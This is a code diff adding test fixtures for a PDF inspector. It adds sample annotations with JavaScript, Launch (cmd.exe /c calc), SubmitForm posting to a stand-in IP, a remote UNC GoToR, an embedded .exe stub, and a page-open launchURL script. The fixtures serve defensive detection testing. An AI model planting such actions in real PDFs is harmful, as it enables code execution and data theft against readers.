@@ -85,3 +85,62 @@ function onePage(opts: { prefix?: string; header?: string }): Buffer {
     opts,
   );
 }
+
+/** Annotations and page actions that run, launch, send, fetch or play, by the kind the inspector names. */
+export const ACTIVE_ANNOTATIONS = {
+  'link-javascript': ['<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /JavaScript /JS (app.alert\\(1\\)) >> >>', 'javascript'],
+  launch: ['<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >> >>', 'launch'],
+  'javascript-uri': [
+    '<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI ( javascript:alert\\(1\\)) >> >>',
+    'javascript-uri',
+  ],
+  'submit-form': [
+    '<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /SubmitForm /F << /FS /URL /F (http://198.51.100.7/collect) >> >> >>',
+    'submit-form',
+  ],
+  'goto-remote-unc': [
+    '<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /GoToR /F (\\\\\\\\198.51.100.7\\\\share\\\\x.pdf) /D [0 /Fit] >> >>',
+    'remote-goto',
+  ],
+  'import-data': ['<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /ImportData /F (data.fdf) >> >>', 'import-data'],
+  'file-attachment': [
+    '<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS << /Type /Filespec /F (setup.exe) /EF << /F 5 0 R >> >> >>',
+    'file-attachment',
+  ],
+  'widget-keystroke': [
+    '<< /Type /Annot /Subtype /Widget /FT /Tx /T (f) /Rect [0 0 10 10] /AA << /K << /S /JavaScript /JS (event.rc=true) >> >> >>',
+    'javascript',
+  ],
+  rendition: ['<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /Rendition /OP 0 /JS (x) >> >>', 'rendition'],
+  'uri-chained-launch': [
+    '<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://www.gov.cn/) /Next << /S /Launch /F (cmd.exe) >> >> >>',
+    'launch',
+  ],
+} as const;
+
+/** Links a submission keeps: a /Dest, a GoTo, an https URI. */
+export const SAFE_LINKS = [
+  '<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /Dest [3 0 R /Fit] >>',
+  '<< /Type /Annot /Subtype /Link /Rect [0 10 10 20] /A << /S /GoTo /D [3 0 R /Fit] >> >>',
+  '<< /Type /Annot /Subtype /Link /Rect [0 20 10 30] /A << /S /URI /URI (https://www.gov.cn/) >> >>',
+];
+
+/**
+ * A one-page PDF with `annotations` on its page (objects 6…) and, with `pageScript`, a page-open
+ * JavaScript action (/AA /O). Object 5 is a small embedded file (the attachment's .exe).
+ */
+export function pdfWithAnnotations(annotations: readonly string[], opts: { pageScript?: boolean } = {}): Buffer {
+  const refs = annotations.map((_, i) => `${6 + i} 0 R`).join(' ');
+  const aa = opts.pageScript ? ' /AA << /O << /S /JavaScript /JS (app.launchURL\\("http://198.51.100.7/"\\)) >> >>' : '';
+  return assemble(
+    [
+      { num: 1, text: '<< /Type /Catalog /Pages 2 0 R >>' },
+      { num: 2, text: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>' },
+      { num: 3, text: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R /Annots [${refs}]${aa} >>` },
+      { num: 4, text: '<< /Length 0 >>\nstream\n\nendstream' },
+      { num: 5, text: '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream' },
+      ...annotations.map((text, i) => ({ num: 6 + i, text })),
+    ],
+    '/Root 1 0 R',
+  );
+}
